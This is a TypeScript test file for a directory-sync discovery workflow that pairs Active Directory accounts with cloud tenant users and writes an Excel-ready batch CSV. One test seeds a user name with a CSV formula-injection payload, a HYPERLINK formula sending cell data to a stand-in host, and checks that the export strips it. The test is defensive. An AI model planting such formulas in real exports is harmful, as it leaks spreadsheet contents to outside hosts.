// discover's I/O: one read of the tenant's users serves both the pairing and plan's checks, and a custom source
// anchor attribute is read on every AD account (and checked to be an attribute name first).
import { expect } from 'chai';
import { parseBatch } from '../../../lib/batch/read.js';
import { parseConfig } from '../../../lib/config.js';
import { discoverCsvLines } from '../../../lib/discover/output.js';
import { collectFacts } from '../../../lib/workflow/collector.js';
import { discover } from '../../../lib/workflow/discover.js';
import { NO_MATCH } from '../../../lib/discover/pair.js';
import { CORP_OU, makeAdUser, makeCloudObject, makeCloudUser, SCOPE_OU } from '../checks/fixtures.js';
import { deps, FakeIO, upd, world } from './fake-world.js';

const config = parseConfig({ graph: { auth: 'interactive' } });
const forest = { name: 'contoso.local', upnSuffixes: ['contoso.com'], domains: [{ dnsRoot: 'contoso.local', distinguishedName: 'DC=contoso,DC=local' }] };
const syncFacts = (anchorAttribute: string) => () => ({
  serverName: 'AADC01', syncCycleEnabled: true, stagingModeEnabled: false, syncCycleInProgress: false, schedulerSuspended: false, nextSyncCycleStartTimeInUTC: null,
  scopeOUs: [CORP_OU], anchorAttribute, upnAttribute: 'userPrincipalName',
});

describe('workflow: discover', () => {
  function customAnchorWorld(anchorAttribute: string) {
    const ad = [
      makeAdUser('anna', { UserPrincipalName: 'anna@contoso.com', customAnchor: 'E-anna' }),
      makeAdUser('ben', { UserPrincipalName: 'ben@contoso.com', customAnchor: null }),
      makeAdUser('sven', { UserPrincipalName: 'sven@contoso.com', customAnchor: 'E-sven' }),
    ];
    const io = new FakeIO({
      'sync-facts': syncFacts(anchorAttribute),
      'discover-ad': () => ({ forest, writeDomain: 'contoso.local', users: ad }),
      'discover-cloud': () => ({
        users: [makeCloudUser('anna@contoso.com'), makeCloudUser('ben@contoso.com')],
        // Sven is synced under his employeeID.
        others: [makeCloudObject('user', { userPrincipalName: 'sven@contoso.com', mail: null, proxyAddresses: [], onPremisesImmutableId: 'E-sven' })],
        counts: { read: 3, guests: 0, synced: 1, anchored: 0, filteredOut: 0 },
      }),
      'cloud-facts': () => ({ cloudUsers: [], cloudObjects: [], scanned: { groups: 0, contacts: 0, deletedUsers: 0 } }),
      'tenant-facts': world().answers['tenant-facts']!,
    });
    return io;
  }

  it('with a custom source anchor reads it on every AD account: the accounts it represents are left out, an account without a value is blocked as such', async () => {
    const io = customAnchorWorld('employeeID');
    const report = await discover(deps(io), { config, enableFeature: false });
    expect(io.calls.find((c) => c.step === 'discover-ad')!.input).to.include({ AnchorAttribute: 'employeeID' });
    expect(report.counts.adRepresented).to.equal(1);
    const rows = Object.fromEntries(report.rows.map((r) => [r.cloudUpn, r]));
    expect(rows['anna@contoso.com']).to.include({ status: 'ready', blocked: false });
    expect(rows['anna@contoso.com']!.findings.map((f) => f.code)).to.not.include('SourceAnchorMissing');
    expect(rows['ben@contoso.com']!.findings.map((f) => f.code)).to.include('SourceAnchorMissing');
    // One read of the users: the checks' cloud facts skip /users; the forest read serves as the AD facts.
    expect(io.calls.find((c) => c.step === 'cloud-facts')!.input).to.include({ SkipUsers: true });
    expect(io.stepsCalled()).to.not.include('ad-facts');
  });

  it('with --ou suggests a new account only for a cloud user nothing matches, not for one whose candidate another user took', async () => {
    const io = new FakeIO({
      'sync-facts': syncFacts('objectGUID'),
      'discover-ad': () => ({ forest, writeDomain: 'contoso.local', users: [makeAdUser('jdoe', { UserPrincipalName: 'jdoe@contoso.com' })] }),
      'discover-cloud': () => ({
        users: [
          makeCloudUser('jdoe@contoso.com', { givenName: 'John', surname: 'Doe' }),
          // Its UPN prefix points at jdoe's account, which the same UPN claims: probably the same person twice.
          makeCloudUser('jdoe@fabrikam.com', { id: 'c-jdoe2', givenName: 'John', surname: 'Doe' }),
          makeCloudUser('new.person@contoso.com', { id: 'c-new', givenName: 'New', surname: 'Person' }),
        ],
        others: [],
        counts: { read: 3, guests: 0, synced: 0, anchored: 0, filteredOut: 0 },
      }),
      'cloud-facts': () => ({ cloudUsers: [], cloudObjects: [], scanned: { groups: 0, contacts: 0, deletedUsers: 0 } }),
      'tenant-facts': world().answers['tenant-facts']!,
    });
    const report = await discover(deps(io), { config, enableFeature: false, ou: CORP_OU });
    const rows = Object.fromEntries(report.rows.map((r) => [r.cloudUpn, r]));
    expect(rows['jdoe@contoso.com']).to.include({ status: 'ready' });
    expect(rows['jdoe@fabrikam.com']).to.include({ status: 'left-out', proposal: null });
    expect(rows['new.person@contoso.com']).to.include({ status: 'create' });
  });

  it("pairs only the AD accounts in the sync scope (plan's rule: exclusions, group filter): one out of scope makes no pair ambiguous", async () => {
    const group = 'CN=Sync,OU=Groups,DC=contoso,DC=local';
    const partition = { name: 'contoso.local', distinguishedName: 'DC=contoso,DC=local', selected: true, inclusions: [SCOPE_OU], exclusions: ['OU=Leavers,OU=Corp,DC=contoso,DC=local'], domainControllers: [] };
    const io = new FakeIO({
      'sync-facts': () => ({ ...syncFacts('mS-DS-ConsistencyGuid')(), scopeOUs: [SCOPE_OU], partitions: [partition], groupFilterDn: group }),
      'discover-ad': () => ({
        forest,
        writeDomain: 'contoso.local',
        users: [
          makeAdUser('anna', { UserPrincipalName: 'anna@contoso.com', memberOf: [group] }),
          // Under an included OU, but in an excluded one: the sync never sees it.
          makeAdUser('anna.old', { DistinguishedName: 'CN=anna.old,OU=Leavers,OU=Corp,DC=contoso,DC=local', mail: 'anna@contoso.com', proxyAddresses: ['SMTP:anna@contoso.com'], memberOf: [group] }),
          // Not a member of the filtering group.
          makeAdUser('ben', { UserPrincipalName: 'ben@contoso.com', memberOf: [] }),
        ],
      }),
      'discover-cloud': () => ({
        users: [makeCloudUser('anna@contoso.com'), makeCloudUser('ben@contoso.com', { id: 'c-ben' })],
        others: [],
        counts: { read: 2, guests: 0, synced: 0, anchored: 0, filteredOut: 0 },
      }),
      'cloud-facts': () => ({ cloudUsers: [], cloudObjects: [], scanned: { groups: 0, contacts: 0, deletedUsers: 0 } }),
      'tenant-facts': world().answers['tenant-facts']!,
    });
    const report = await discover(deps(io), { config, enableFeature: false });
    expect(io.calls.find((c) => c.step === 'discover-ad')!.input).to.include({ MemberOf: true });
    const rows = Object.fromEntries(report.rows.map((r) => [r.cloudUpn, r]));
    expect(rows['anna@contoso.com']).to.include({ status: 'ready', samAccountName: 'anna' });
    expect(rows['ben@contoso.com']).to.include({ status: 'left-out', proposal: null });
    expect(rows['ben@contoso.com']!.reason).to.contain(NO_MATCH);
    expect(report.counts).to.include({ adRead: 3, adInScope: 1, adOutOfSyncScope: 2 });
  });

  it('writes the batch for Excel (UTF-8 BOM) and plan reads it back exactly; a cloud name Excel would run as a formula gets no new account', async () => {
    const io = new FakeIO({
      'sync-facts': syncFacts('objectGUID'),
      'discover-ad': () => ({ forest, writeDomain: 'contoso.local', users: [makeAdUser('anna', { UserPrincipalName: 'anna@contoso.com' })] }),
      'discover-cloud': () => ({
        users: [
          makeCloudUser('anna@contoso.com'),
          makeCloudUser('new.person@contoso.com', { id: 'c-new', givenName: 'New', surname: 'Person' }),
          makeCloudUser('mallory@contoso.com', { id: 'c-m', givenName: '=HYPERLINK("http://x.example/?"&A1,"open")', surname: 'Smith' }),
          makeCloudUser('tab@contoso.com', { id: 'c-t', givenName: 'Tab', surname: '\t+1' }),
        ],
        others: [],
        counts: { read: 4, guests: 0, synced: 0, anchored: 0, filteredOut: 0 },
      }),
      'cloud-facts': () => ({ cloudUsers: [], cloudObjects: [], scanned: { groups: 0, contacts: 0, deletedUsers: 0 } }),
      'tenant-facts': world().answers['tenant-facts']!,
    });
    const report = await discover(deps(io), { config, enableFeature: false, ou: CORP_OU });
    const rows = Object.fromEntries(report.rows.map((r) => [r.cloudUpn, r]));
    expect(rows['new.person@contoso.com']).to.include({ status: 'create' });
    for (const upn of ['mallory@contoso.com', 'tab@contoso.com']) {
      expect(rows[upn]).to.include({ status: 'left-out', proposal: null });
      expect(rows[upn]!.reason).to.match(/formula/);
    }
    const text = [...discoverCsvLines(report)].join('');
    expect(text.startsWith('\uFEFF')).to.equal(true);
    expect(text).to.not.match(/HYPERLINK/);
    const proposals = report.rows.flatMap((r) => (r.proposal ? [r.proposal] : []));
    expect(proposals).to.have.length(2);
    expect(parseBatch(text).users).to.deep.equal(proposals);
  });

  it('refuses an anchor attribute that is not an LDAP attribute name before any AD read', async () => {
    const io = customAnchorWorld('employeeID,mail');
    let error: unknown = null;
    await discover(deps(io), { config, enableFeature: false }).catch((e: unknown) => (error = e));
    expect(String(error)).to.match(/not an LDAP attribute name/);
    expect(io.stepsCalled()).to.deep.equal(['sync-facts']);
  });

  it("plan's cloud facts from discover's read: the batch's users, and every other user holding one of its keys", async () => {
    const anna = makeAdUser('anna', { UserPrincipalName: 'anna@contoso.com', mail: 'a.m@contoso.com', proxyAddresses: ['SMTP:a.m@contoso.com'] });
    const ben = makeAdUser('ben', { UserPrincipalName: 'ben@contoso.com', mail: 'ben@contoso.com' });
    // With -SkipUsers the step returns every group, contact and deleted user it read: the collector looks for the keys.
    const group = makeCloudObject('group', { mail: 'A.M@contoso.com', proxyAddresses: [] });
    const contact = makeCloudObject('contact', { mail: 'someone@fabrikam.com', proxyAddresses: ['SMTP:someone@fabrikam.com'] });
    const io = new FakeIO({
      'sync-facts': syncFacts('mS-DS-ConsistencyGuid'),
      'cloud-facts': () => ({ cloudUsers: [], cloudObjects: [group, contact], scanned: { groups: 1, contacts: 1, deletedUsers: 0 } }),
      'tenant-facts': world().answers['tenant-facts']!,
    });
    const cloudAnna = makeCloudUser('anna@contoso.com');
    const benCloud = makeCloudUser('ben@contoso.com');
    const guest = makeCloudObject('user', { userPrincipalName: 'x_ext#EXT#@contoso.com', mail: null, proxyAddresses: ['smtp:A.M@contoso.com'] });
    const stranger = makeCloudObject('user', { userPrincipalName: 'zed@contoso.com', mail: 'zed@contoso.com', proxyAddresses: [] });
    const facts = await collectFacts(io, [{ ...upd, samAccountName: null, distinguishedName: anna.DistinguishedName }], {
      config,
      enableFeatureAllowed: false,
      adFacts: { forest, writeDomain: 'contoso.local', users: [anna, ben] },
      tenantUsers: { users: [cloudAnna, benCloud], others: [guest, stranger] },
    });
    expect(facts.cloudUsers.map((u) => u.id)).to.deep.equal([cloudAnna.id]);
    expect(facts.cloudObjects.map((o) => o.id)).to.deep.equal([guest.id, group.id]);
    // The checks see the batch's accounts, as Get-AdFacts would have found them, not the whole forest.
    expect(facts.adUsers.map((a) => a.SamAccountName)).to.deep.equal(['anna']);
    // One call, and no key list crosses into PowerShell.
    const calls = io.calls.filter((c) => c.step === 'cloud-facts');
    expect(calls).to.have.length(1);
    expect(calls[0]!.input).to.deep.include({ SkipUsers: true, UserPrincipalName: [], Address: [], Anchor: [] });
  });
});
